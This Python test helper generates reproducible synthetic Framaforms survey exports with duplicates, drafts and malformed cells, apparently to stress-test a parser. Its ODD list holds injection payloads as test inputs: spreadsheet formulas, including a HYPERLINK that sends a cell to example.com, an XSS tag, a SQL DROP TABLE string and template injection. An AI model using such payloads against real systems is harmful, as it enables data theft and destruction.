"""Exports of the bundled form as Framaforms writes them, of invented answers: the same for the same
seed, and each row by its number alone, so that processes share the work."""

from __future__ import annotations

import csv
import os
import tomllib
from concurrent.futures import ProcessPoolExecutor
from datetime import datetime, timedelta
from functools import partial
from io import StringIO
from itertools import islice
from pathlib import Path
from random import Random

from tests.bench.texts import QUESTIONS, answer, typed_differently
from tests.cases.places import ROOT

EXAMPLE = ROOT / "schemas" / "exemple" / "vsa-2022" / "p1-01-defaut-tab.tsv"
WORDS = tomllib.loads(Path(__file__).with_name("people.toml").read_text(encoding="utf-8"))
OPENING, DAYS = datetime(2022, 2, 15, 9), 21  # noqa: DTZ001 - a site writes no zone
CHUNK = 2_000  # rows, about 4 MB

# Where the cells stand that are looked at again.
DRAFT, NAME, EMAIL, TEXTS, NUMBER, DATE, TIME, CONSENT = 5, 11, 13, 29, 32, 33, 34, 40
CATEGORIES = {
    "Citoyen·ne": 230, "Association (loi 1901)": 41, "Membre d'un collectif": 40,
    "Chercheur·euse, enseignant·e": 28, "Professionnel·le : avocat·e, élu·e, journaliste": 26,
    "Autre": 22,
}  # fmt: skip
OPINIONS = {"Très opposé·e": 11, "Plutôt opposé·e": 3, "Sans avis": 1, "Plutôt favorable": 1,
            "Très favorable": 1, "": 3}  # fmt: skip
CONSENTS = {"Oui, anonymement": 164, "Oui, en mon nom": 130, "Oui, au nom de mon collectif": 24,
            "Non": 54}  # fmt: skip
# What stands before, in or after a text of one row in twelve: what no reader should trip over.
ODD = (
    "=1+1", "@SUM(A1:A9)", "-2+3+cmd", '=HYPERLINK("http://example.com/?x="&A1;"clic")', "\t=1+1",
    "😡", "📹🚫", "🏳️\u200d🌈", "👩\u200d👩\u200d👧", "𝒷ℴ𝒻", "\u202eetnetaurep\u202c", "חוף",
    "أرفض المراقبة الآلية بالفيديو في الأماكن العامة.", "\u200b", "\u2060", "\ufeff", "\u00ad",
    "\x0b", "\x0c", "\x1b[31m", "\x01", "\x85", "\ufffe", "\u2028", "\x1c", "\n", "\r", "\u3000",
    "a;b;c,d,e\tf\tg|h|i:j.k", 'C:\\cameras\\" ; ";" , "\\t"', 'Il a dit : ""rien"".', '"', '"""',
    "<img src=x onerror=alert(1)>", "Robert'); DROP TABLE submissions;--", "{{ 7*7 }} ${HOME} %s",
    "06 39 98 12 34", "http://example.org/a?b=c", "e\u0336\u0301" * 20, "Ǆ ẞ İı ſ ﬁ Ⅳ",
)  # fmt: skip
# What no reader can understand, by the place of the cell: one row in twenty-five.
UNREAD = {
    9: "unknown_category", EMAIL: "bad_email", 15: "bad_postcode", 24: "unknown_opinion",
    NUMBER: "bad_number", DATE: "bad_date", TIME: "bad_time", CONSENT: "unknown_consent",
}  # fmt: skip

Cells = list[str]


def write_export(path: Path, answers: int, *, left_out: int = 0, seed: int = 1) -> None:
    """Writes an export with this many answers, or as it was before the last of them came."""
    ends = range(0, answers - left_out, CHUNK)
    with path.open("wb") as file, ProcessPoolExecutor(os.cpu_count()) as pool:
        with EXAMPLE.open("rb") as example:
            file.writelines(islice(example, 3))
        file.writelines(pool.map(partial(_chunk, answers, answers - left_out, seed), ends))


def _chunk(answers: int, end: int, seed: int, start: int) -> bytes:
    written = StringIO()
    writer = csv.writer(written, delimiter="\t", quoting=csv.QUOTE_ALL, lineterminator="\n")
    numbers = range(start, min(start + CHUNK, end))
    writer.writerows(row(number, answers, seed) for number in numbers)
    return written.getvalue().encode()


def row(number: int, answers: int, seed: int) -> Cells:
    """The cells of the row of this number: one in twelve sends again what was sent before, or
    others' words; three in a hundred are drafts."""
    rng = _chance(seed, -1 - number)
    fate, cells = rng.random(), _sheet(number, seed)
    other = _sheet(number - 1 - int(number * rng.random() ** 3), seed) if number else cells
    if fate < 0.08 and other[EMAIL]:
        cells = _sent_again(other, cells, rng)
    elif fate < 0.10:
        cells[TEXTS] = f"{other[TEXTS]} !"
    elif fate < 0.18:
        place, odd = TEXTS + rng.randrange(3), rng.choice(ODD)
        said = cells[place]
        cells[place] = rng.choice(
            (odd, f"{odd} {said}", f"{said} {odd}", f"{said[:40]}{odd}{said}")
        )
    elif fate < 0.22:
        place = rng.choice([*UNREAD])
        cells[place] = rng.choice(WORDS[UNREAD[place]])
    if number == answers * 618 // 1000:  # the one text that a spreadsheet cell can't hold
        cells[TEXTS] = (cells[TEXTS] or "Non. ") * 40_000
        cells[TEXTS] = cells[TEXTS][:40_000]
    is_draft = fate > 0.97
    _identify(cells, number, OPENING + timedelta(days=DAYS) * (number / answers), is_draft, rng)
    return [*cells[:TEXTS], *[""] * (len(cells) - TEXTS)] if is_draft else cells


def _chance(seed: int, number: int) -> Random:
    return Random(seed * 1_000_000_007 + number)  # noqa: S311 - invented data, no secret


def _sheet(number: int, seed: int) -> Cells:
    """What the person of this number fills in, before anything odd happens to it."""
    rng = _chance(seed, number)
    category = _drawn(CATEGORIES, rng)
    first, last = rng.choice(WORDS["first"]), rng.choice(WORDS["last"])
    town, postcode = rng.choice(WORDS["communes"]).rsplit(" ", 1)
    name = rng.choice(("", first, f"{first} {last}", rng.choice(WORDS["pseudonyms"])))
    is_collective = category in [*CATEGORIES][1:3] or rng.random() < 0.06
    consent = _drawn(CONSENTS, rng)
    has_file = rng.random() < 0.015
    return [
        *[""] * 9, category, rng.choice(WORDS["other_category"]) if category == "Autre" else "",
        name, rng.choice(WORDS["collectives"]) if is_collective else "",
        f"personne{number}@example.org" if rng.random() < 0.55 else "",
        town, postcode if rng.random() < 0.7 else "",
        *[_ticked(0.55, rng) for _ in range(6)],
        *rng.choice([("", "")] * 9 + [("X", rng.choice(WORDS["other_reason"]))]),
        *[_drawn(OPINIONS, rng) for _ in range(5)],
        *[answer(question, rng, town) for question in QUESTIONS],
        rng.choice(("20", "1", "50", "0", "1.5", "100", "3", "10", "")),
        f"{rng.randint(1, 28):02}/{rng.randint(1, 12):02}/{rng.randint(2008, 2021)}"
        if rng.random() < 0.3 else "",
        f"{rng.randrange(24):02}:{rng.choice(('00', '15', '30'))}" if rng.random() < 0.25 else "",
        f"http://example.org/system/files/webform/photo_{number}.jpg" if has_file else "",
        str(rng.randrange(900)) if has_file else "", *[_ticked(0.24, rng) for _ in range(3)],
        consent if is_collective or "collectif" not in consent else "Non", "X", "framaforms-2022",
    ]  # fmt: skip


def _drawn(shares: dict[str, int], rng: Random) -> str:
    return rng.choices([*shares], [*shares.values()])[0]


def _ticked(share: float, rng: Random) -> str:
    return "X" if rng.random() < share else ""


def _sent_again(sent: Cells, cells: Cells, rng: Random) -> Cells:
    """Half send the same answers, half others; some in another keyboard, or wish to be named no
    more."""
    again = [*(sent if rng.random() < 0.5 else cells)]
    again[EMAIL] = rng.choice((sent[EMAIL], sent[EMAIL].upper(), sent[EMAIL].capitalize()))
    if rng.random() < 0.3:
        again[TEXTS] = typed_differently(again[TEXTS], rng)
    if rng.random() < 0.15:
        again[CONSENT] = rng.choice(("Oui, en mon nom", "Non"))
    return again


def _identify(cells: Cells, number: int, sent: datetime, is_draft: bool, rng: Random) -> None:
    """Framaforms' own cells; the site counts the submissions of other forms too."""
    later = sent + timedelta(hours=rng.choice((0,) * 24 + (5,)))
    times = [f"{when:%d/%m/%Y - %H:%M}" for when in (sent, sent, later)]
    if is_draft:
        times[1] = ""
    own = (number + 2, 412_875 + 3 * number + rng.randrange(3), *times, int(is_draft))
    cells[: NAME - 2] = [*map(str, own), "0.0.0.0", "0", "Anonymous"]  # noqa: S104
